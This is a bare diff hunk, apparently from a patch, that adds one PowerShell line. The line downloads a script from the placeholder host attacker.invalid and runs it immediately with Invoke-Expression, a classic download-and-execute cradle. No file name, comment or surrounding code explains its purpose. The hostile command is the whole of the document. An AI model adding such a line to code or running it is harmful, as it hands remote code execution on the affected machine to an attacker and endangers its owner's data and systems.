@@ -1,0 +1,1 @@
+iex (iwr https://attacker.invalid/p.ps1 -UseBasicParsing)
